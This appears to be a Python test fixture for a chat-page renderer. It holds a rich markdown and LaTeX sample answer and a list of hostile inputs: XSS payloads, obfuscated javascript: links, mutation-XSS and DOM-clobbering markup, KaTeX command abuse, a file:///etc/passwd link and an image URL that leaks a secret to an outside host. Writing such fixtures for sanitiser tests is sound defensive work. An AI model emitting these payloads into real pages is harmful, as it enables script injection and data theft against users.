"""What models may write to the chat page: rich answers, and hostile ones."""

from __future__ import annotations

RICH = r"""<think>
The user wants the softmax: $\exp$ of each entry, divided by the sum.

- subtract the maximum first
- then normalise
</think>

The **softmax** turns scores $x_1, \dots, x_n$ into probabilities:

$$
\operatorname{softmax}(x)_i = \frac{e^{x_i - m}}{\sum_{j=1}^{n} e^{x_j - m}}, \qquad m = \max_j x_j
$$

The root $\sqrt{x^2 + 1}$ of a vector $\vec{v}$ and \(a^2 + b^2\) cost $5 or $10.

```python
def softmax(x: np.ndarray) -> np.ndarray:
    # subtracting the maximum: no overflow
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
```

| temperature | effect | share |
|---|:---:|---:|
| 0.5 | sharper | 88 % |
| 1 | as it is | 73 % |
| 2 | flatter | 62 % |

1. First `item` with a [link](https://example.org/x)
   - nested
2. Second

- [x] done
- [ ] open

> A quote with *emphasis*.
"""

HOSTILE = [
    "<script>owned++</script>",
    "<img src=x onerror=owned++>",
    "<svg onload=owned++><animate onbegin=owned++ attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.owned++</script>'></iframe><object data='data:text/html,x'></object>",
    "<base href='https://example.org/'><meta http-equiv=refresh content='0;url=https://example.org'>",
    "<style>body { background: url(https://example.org/x) }</style><link rel=stylesheet href=https://example.org/x.css>",
    "<a href=javascript:owned++ onclick=owned++>here</a> <b onmouseover=owned++>there</b>",
    "<form action=https://example.org><button formaction=javascript:owned++>Go</button></form>",
    "[a](javascript:owned++) [b](JaVaScRiPt:owned++) [c](java\tscript:owned++) [d](\x01javascript:owned++)",
    "[a](java&#115;cript:owned++) [b](javascript&colon;owned++) [c](&#x6a;avascript:owned++) [d](java&Tab;script:1)",
    "[a](vbscript:x) [b](data:text/html,<script>owned++</script>) [c](file:///etc/passwd) [d](blob:x) [e](//x.org)",
    "<javascript:owned++> <https://example.org/\"onmouseover=\"owned++>",
    "[a][x] ![b][x]\n\n[x]: javascript:owned++ \"onmouseover=owned++\"",
    "![a](https://example.org/leak?q=secret) ![b](x\"onerror=\"owned++) ![c](data:image/svg+xml,<svg/onload=owned++>)",
    "[![a](javascript:owned++)](javascript:owned++) [![a](https://example.org/i.png \"\\\" onload=owned++\")](https://a.b)",
    "[a](https://example.org/ \"\\\" onmouseover=owned++ x=\\\"\")",
    "```\"><img/src=x/onerror=owned++>\n<script>owned++</script>\n```",
    "```__proto__\nowned\n```\n\n```constructor\nowned\n```\n\n```extend\nowned\n```",
    "```html\n<script>owned++</script><img src=x onerror=owned++>\n```",
    "`<script>owned++</script>` **<img src=x onerror=owned++>** ~~<svg/onload=owned++>~~",
    "| <script>owned++</script> | b |\n|---|---|\n| <img src=x onerror=owned++> | [x](javascript:owned++) |",
    "# <img src=x onerror=owned++>\n\n> <script>owned++</script>\n\n1. <iframe src=javascript:owned++>",
    "$\\href{javascript:owned++}{x}$ $\\url{javascript:owned++}$ $\\includegraphics{https://example.org/x.png}$",
    "$\\htmlData{x=y}{z}$ $\\htmlStyle{background:url(https://example.org)}{x}$ $\\htmlClass{\"onclick=owned++}{x}$",
    "$$\\text{<img src=x onerror=owned++>} \\unicode{<script>}$$ $\\color{red;background:url(//x.org)}{x}$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{9999999em}{9999999em}$ $\\kern-99999em x$",
    "<!-- --><script>owned++</script><!--> <img src=x onerror=owned++> -->",
    "<![CDATA[<script>owned++</script>]]> <?xml <script>owned++</script>?> <!DOCTYPE x [<!ENTITY y \"z\">]>",
    "&lt;script&gt;owned++&lt;/script&gt; &#60;img src=x onerror=owned++&#62; &#0; &#xD800; &#x110000; &constructor;",
    "\u202e\u0000\ufeff<scr\u0000ipt>owned++</scr\u0000ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned++></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=owned++>\"></noscript><template><script>owned++</script>",
    "<div id=thread><div id=input><a id=body></a><form id=document></form></div></div>",
]
